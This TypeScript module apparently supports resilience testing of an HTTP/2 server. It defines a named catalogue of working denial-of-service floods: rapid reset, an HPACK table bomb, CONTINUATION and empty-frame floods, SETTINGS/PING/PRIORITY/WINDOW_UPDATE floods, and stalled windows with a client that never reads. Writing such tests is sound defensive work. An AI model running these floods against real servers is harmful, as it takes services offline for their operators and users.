import {
  ACK,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  GET_FIELDS,
  headerBlock,
  HEADERS,
  PING,
  RST_STREAM,
  SETTINGS,
  uint32,
  WINDOW_UPDATE,
} from './h2-frames.ts'

/** A flood of frames that costs its sender less than its receiver. */
export interface Flood {
  /** SETTINGS of the client: identifier and value. */
  readonly settings: readonly (readonly [number, number])[]
  /** The n-th block of frames. */
  block(n: number): Buffer
  readonly blocks: number
  /** The client never reads. */
  readonly deaf: boolean
}

const PRIORITY = 2
const INITIAL_WINDOW_SIZE = 4
const CANCEL = uint32(8)
const EMPTY = Buffer.alloc(0)
const BLOCK = headerBlock(GET_FIELDS)

function fieldsOf(path: string): Buffer {
  return headerBlock(GET_FIELDS.map(([name, value]) => [name, name === ':path' ? path : value]))
}

/** `times` frames of one kind in one block. */
function many(times: number, build: (i: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: times }, (_, i) => build(i)))
}

const odd = (n: number): number => 2 * n + 1

function flood(parts: Partial<Flood> & Pick<Flood, 'block' | 'blocks'>): Flood {
  return { settings: [], deaf: false, ...parts }
}

/** A field of 4,000 bytes put into the dynamic table, then named by its index again and again. */
function bomb(n: number): Buffer {
  const stream = odd(n)
  const grow = Buffer.concat([
    Buffer.from([0x40]),
    headerBlock([['x', 'y'.repeat(3_900)]]).subarray(1),
  ])
  const references = Buffer.alloc(8_000, 0x80 | 62)
  const block =
    n === 0 ? Buffer.concat([BLOCK, grow, references]) : Buffer.concat([BLOCK, references])
  return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

const PER_BLOCK = 100

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': flood({
    blocks: 200,
    block: (n) =>
      many(PER_BLOCK, (i) => {
        const stream = odd(n * PER_BLOCK + i)
        return Buffer.concat([
          frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK),
          frame(RST_STREAM, 0, stream, CANCEL),
        ])
      }),
  }),
  'resets a turn later': flood({
    blocks: 20_000,
    block: (n) =>
      n % 2 === 0
        ? frame(HEADERS, END_HEADERS | END_STREAM, odd(n / 2), fieldsOf('/silent'))
        : frame(RST_STREAM, 0, odd((n - 1) / 2), CANCEL),
  }),
  'provoked resets': flood({
    blocks: 100,
    block: (n) =>
      many(PER_BLOCK, (i) => {
        const stream = odd(n * PER_BLOCK + i)
        return Buffer.concat([
          frame(HEADERS, END_HEADERS, stream, fieldsOf('/silent')),
          frame(WINDOW_UPDATE, 0, stream, uint32(0)),
        ])
      }),
  }),
  'HPACK bomb': flood({ blocks: 100, block: bomb, settings: [[INITIAL_WINDOW_SIZE, 0]] }),
  'cookie crumbs': flood({
    blocks: 100,
    block: (n) =>
      frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        odd(n),
        Buffer.concat([BLOCK, many(1500, () => headerBlock([['cookie', 'a']]))]),
      ),
  }),
  CONTINUATION: flood({
    blocks: 1000,
    block: (n) =>
      n === 0
        ? frame(HEADERS, END_STREAM, 1, BLOCK)
        : many(PER_BLOCK, () => frame(CONTINUATION, 0, 1, headerBlock([['x', 'y']]))),
  }),
  'empty CONTINUATION': flood({
    blocks: 1000,
    block: (n) =>
      n === 0
        ? frame(HEADERS, END_STREAM, 1, BLOCK)
        : many(PER_BLOCK, () => frame(CONTINUATION, 0, 1, EMPTY)),
  }),
  'empty DATA': flood({
    blocks: 1000,
    block: (n) =>
      n === 0
        ? frame(HEADERS, END_HEADERS, 1, fieldsOf('/silent'))
        : many(PER_BLOCK, () => frame(DATA, 0, 1, EMPTY)),
  }),
  SETTINGS: flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(SETTINGS, 0, 0, EMPTY)),
    deaf: true,
  }),
  'SETTINGS acknowledgements': flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(SETTINGS, ACK, 0, EMPTY)),
  }),
  'read SETTINGS': flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(SETTINGS, 0, 0, EMPTY)),
  }),
  'read PING': flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(PING, 0, 0, Buffer.alloc(8))),
  }),
  'unread PING': flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(PING, 0, 0, Buffer.alloc(8))),
    deaf: true,
  }),
  PRIORITY: flood({
    blocks: 500,
    block: (n) =>
      many(PER_BLOCK, (i) =>
        frame(PRIORITY, 0, odd(n * PER_BLOCK + i), Buffer.from([0, 0, 0, 0, 1])),
      ),
  }),
  WINDOW_UPDATE: flood({
    blocks: 500,
    block: (n) =>
      n === 0
        ? frame(HEADERS, END_HEADERS, 1, fieldsOf('/silent'))
        : many(PER_BLOCK, () => frame(WINDOW_UPDATE, 0, 1, uint32(1))),
  }),
  'unknown frames': flood({
    blocks: 500,
    block: () => many(PER_BLOCK, () => frame(0xfa, 0, 0, Buffer.alloc(16))),
  }),
  'stalled windows': flood({
    blocks: 100,
    block: (n) => frame(HEADERS, END_HEADERS | END_STREAM, odd(n), fieldsOf('/medium')),
    settings: [[INITIAL_WINDOW_SIZE, 0]],
    deaf: true,
  }),
}
